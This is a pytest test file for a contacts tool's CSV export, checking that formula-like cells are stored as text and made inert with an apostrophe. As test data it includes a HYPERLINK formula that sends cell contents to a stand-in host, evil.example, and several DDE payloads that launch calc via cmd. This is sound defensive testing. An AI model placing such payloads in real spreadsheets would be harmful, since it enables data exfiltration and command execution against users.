"""Spreadsheet-formula cells: stored as the text they were, made inert in every CSV export."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from assistant.domain import Contact
from assistant.services.contacts.spreadsheet import contacts_csv
from assistant.services.network.people import Person
from assistant.services.network.view import to_csv
from assistant.text import spreadsheet_cell

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


@pytest.mark.parametrize(("cell", "shown"), [
    (FORMULA, "'" + FORMULA),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("+1 (555) 010-0199", "+1 (555) 010-0199"),  # a phone number runs nothing
    ("-5", "-5"),
    ("Acme = good", "Acme = good"),
    ("", ""),
])
def test_formula_like_cells_get_an_apostrophe(cell: str, shown: str) -> None:
    assert spreadsheet_cell(cell) == shown


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_contacts_csv_and_the_map_csv_make_formulas_inert() -> None:
    ana = Contact(name="@Ana", company=FORMULA, title="+Lead", tags=["-x"])
    rows = read(contacts_csv([ana]))
    assert rows[1][:5] == ["'@Ana", "'" + FORMULA, "'+Lead", "active", "'-x"]
    person = Person(id="c_1", name="=Bo", tier="active", company=FORMULA, title="",
                    past_companies=(), introduced_by="@Cy")
    assert read(to_csv([person]))[1] == ["'=Bo", "active", "'" + FORMULA, "", "", "'@Cy"]


def test_a_formula_cell_is_imported_as_text_and_exported_inert(
    run_cli: Callable[..., tuple[int, str, str]], tmp_path: Path,
) -> None:
    source = tmp_path / "Connections.csv"
    source.write_text('First Name,Last Name,Company,Position,Connected On\n'
                      'Ana,Lee,"=HYPERLINK(""http://evil.example"",""x"")",PM,01 Jan 2020\n',
                      encoding="utf-8")
    assert run_cli("import", str(source))[0] == 0
    code, out, _ = run_cli("contacts", "list", "--json")
    stored = json.loads(out)["contacts"][0]
    assert stored["company"] == '=HYPERLINK("http://evil.example","x")'  # the text, as is
    target = tmp_path / "out.csv"
    code, out, err = run_cli("contacts", "list", "--csv", str(target))
    assert code == 0, err
    assert read(target.read_text(encoding="utf-8"))[1][1] == \
        '\'=HYPERLINK("http://evil.example","x")'
    assert target.stat().st_mode & 0o777 == 0o600
    code, out, err = run_cli("contacts", "list", "--csv", str(tmp_path / "no" / "x.csv"))
    assert (code, out) == (1, "")
    assert err.strip() == f"warmline: cannot write {tmp_path / 'no' / 'x.csv'}: " \
                          "No such file or directory"
